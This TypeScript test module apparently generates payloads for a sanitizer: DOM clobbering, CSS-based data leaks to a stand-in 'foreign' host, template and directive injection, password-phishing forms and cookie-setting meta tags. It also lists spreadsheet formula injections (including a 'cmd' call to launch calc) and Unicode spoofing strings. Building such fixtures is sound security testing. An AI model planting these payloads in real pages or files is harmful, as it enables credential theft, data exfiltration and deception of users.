import { act, foreign } from './acts.ts'

/** Takeovers without script: styles, forms, DOM clobbering, template injection. */

const names =
  `alert attributes body boot childNodes cookie createElement currentScript defaultView documentElement firstChild forms fetch
  getElementById head hit history implementation innerHTML localStorage location nodeName nodeType ownerDocument parentNode
  querySelectorAll removeAttribute replaceChildren root scripts self setAttribute textContent top trustedTypes window __proto__
  constructor hasOwnProperty DOMPurify DOMParser`.split(/\s+/)

function* clobbering(): Generator<string> {
  for (const name of names) {
    yield `<img id="${name}" name="${name}" src=x>`
    yield `<a id="${name}" href="tel:1"></a><a id="${name}" name=x href="javascript:${act}"></a>`
    yield `<form id="${name}"><input name="${name}"><input name=attributes><input name=parentNode><img name=nodeName src=x onerror=${act}></form>`
    yield `<iframe name="${name}" srcdoc="<a id=x>"></iframe><p id="${name}" class="${name}">x</p>`
  }
}

const rules = [
  'position:fixed;inset:0;z-index:2147483647;background:#fff',
  'display:none!important',
  `background:url(${foreign})`,
  `background:u\\72l(${foreign})`,
  `list-style:image-set("${foreign}" 1x)`,
  `cursor:url(${foreign}),auto`,
  `content:url(${foreign})`,
  `border-image:url(${foreign})`,
  `mask:url(${foreign}#x)`,
  `filter:url(${foreign}#x)`,
  `--x:url(${foreign})`,
  'width:expression(hit())',
  'width:exp/**/ression(hit())',
  'behavior:url(x.htc)',
  `-moz-binding:url(${foreign}#x)`,
  '-o-link:"javascript:hit()";-o-link-source:current',
  'color:red;}</style><img src=x onerror=hit()>',
  'x:\\75rl(javascript:hit())',
  '@import url(https://foreign.example/x)',
  'font-family:x;src:url(https://foreign.example/x)',
  'animation:x 1s',
  'transform:scale(99)',
]

function* styles(): Generator<string> {
  for (const rule of rules) {
    yield `<p style="${rule.replaceAll('"', '&quot;')}">x</p>`
    yield `<table style='${rule}'><tr><td style='${rule}' bgcolor=red width=9999 height=9999>x</table>`
    yield `<style>p,body{${rule}}</style><p>x</p>`
    yield `<svg><style>*{${rule}}</style><text>x</text></svg>`
    yield `<font color=red size=99 style="${rule.replaceAll('"', '&quot;')}" face=x>x</font>`
  }
  for (const letter of 'abcdef')
    yield `<style>input[value^=${letter}]{background:url(${foreign}?${letter})}</style><input type=hidden value=${letter}>`
}

const templates = [
  '{{constructor.constructor("hit()")()}}',
  '{{$on.constructor("hit()")()}}',
  '[[hit()]]',
  '${hit()}',
  '#{hit()}',
  '<%= hit() %>',
  '{%print hit()%}',
  '{{{hit()}}}',
  '@{hit()}',
  '#set($x=hit())',
]
const directives = [
  'ng-app ng-init="hit()"',
  'ng-click=hit() ng-focus=hit() autofocus',
  'v-html="hit()" v-on:click=hit()',
  'x-data x-init="hit()"',
  'hx-get=https://foreign.example/x hx-trigger=load hx-on::load=hit()',
  'data-bind="html:hit()"',
  'data-toggle=tooltip data-html=true title="<img src=x onerror=hit()>"',
  'data-src=javascript:hit() data-action=hit()',
  'dangerouslySetInnerHTML="{__html:hit()}"',
  'slot=x shadowrootmode=open',
  'popover id=x popovertarget=x',
  'contenteditable autofocus onfocus=hit()',
  'itemscope itemtype=https://foreign.example/x',
  'accesskey=x tabindex=1 role=alert aria-live=assertive',
  'lang=x dir=rtl translate=no draggable=true hidden inert',
  'style class id name for form',
]

function* others(): Generator<string> {
  for (const template of templates) {
    yield `<p>${template}</p>`
    yield `<a href="${template.replaceAll('"', '&quot;')}">${template}</a>`
    yield `<img src="${template.replaceAll('"', '&quot;')}" alt="${template.replaceAll('"', '&quot;')}">`
  }
  for (const directive of directives)
    for (const tag of ['p', 'div', 'a', 'template', 'x-own']) yield `<${tag} ${directive}>x</${tag}>`
  yield* [
    `<template><img src=x onerror=${act}></template>`,
    `<div><template shadowrootmode=open><img src=x onerror=${act}><slot></slot></template></div>`,
    `<form action="${foreign}" method=post><input type=password name=password><button>Log in again</button></form>`,
    `<form id=f action="${foreign}"></form><button form=f formmethod=post>OK</button><textarea form=f name=x autofocus>`,
    `<dialog open><h1>Your account is locked</h1><a href="${foreign}">Unlock</a></dialog>`,
    `<marquee scrollamount=99 behavior=alternate><blink>x</blink></marquee>`,
    `<h1>big</h1><center><big><tt><nobr>x</nobr></tt></big></center>`,
    `<button popovertarget=x>x</button><p popover id=x>x</p>`,
    `<button command=show-modal commandfor=x>x</button>`,
    `<a href="/m/home" download="x.exe" target=_top>x</a>`,
    `<a href="${foreign}" target=opener rel=opener>x</a>`,
    `<img src="banners/a.avif" usemap=#m ismap crossorigin=use-credentials referrerpolicy=unsafe-url>`,
    `<img src="banners/a.avif" width=99999999 height=-1 border=99 hspace=99>`,
    `<img src="banners/a.avif" width="1e9" height="100%" alt="&quot; onerror=${act} x=&quot;">`,
    `<td colspan=99999999 rowspan=-1 width=9999 onclick=${act}>x`,
    `<ol start=99999999999999999999 type=x reversed><li value=9>x</ol>`,
    `<meta charset=utf-7><meta http-equiv=set-cookie content="sid=1">`,
    `<meta http-equiv=content-security-policy content="script-src *">`,
    `<link rel=manifest href="${foreign}"><link rel=icon href="${foreign}">`,
    `<html manifest="${foreign}"><head profile="${foreign}"><title>x</title></head><body text=red>x`,
    `<plaintext>x`,
    `<xmp><script>${act}</script></xmp>`,
    `<listing>&lt;img src=x onerror=${act}&gt;</listing>`,
    `<keygen autofocus onfocus=${act}><command onclick=${act}><menuitem icon="javascript:${act}">`,
    `<bgsound src="javascript:${act}"><layer src="${foreign}"></layer><ilayer src="${foreign}">`,
    `<video controls autoplay src="${foreign}"></video><canvas id=x></canvas><output>x</output><progress value=1>`,
    `<object type=text/html data="${foreign}"><param name=allowScriptAccess value=always></object>`,
    `<slot name=x onslotchange=${act}></slot><details ontoggle=${act} open><summary>x</summary></details>`,
  ]
}

/** In plain text: what a spreadsheet, a terminal or a reader would misinterpret. */
export const plainPayloads: readonly string[] = [
  ...['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', '＋', '－', '＠'].flatMap((start) => [
    `${start}1+1`,
    `${start}HYPERLINK("${foreign}","x")`,
    `${start}cmd|' /C calc'!A0`,
    `${start}IMPORTXML("${foreign}","//a")`,
    `${start}WEBSERVICE("${foreign}")`,
  ]),
  '",=1+1,"',
  '"\r\n=1+1',
  'a";"=1+1',
  '\u001B[31mred\u001B]8;;https://foreign.example\u0007x',
  '\u202Etxt.exe\u202C',
  '\u2066\u2067x\u2069',
  'ad\u200Bmin\u200D\uFEFF',
  '\u0000\u0001\u007F',
  '\uD800',
]

export const lookPayloads = (): string[] => [...clobbering(), ...styles(), ...others()]
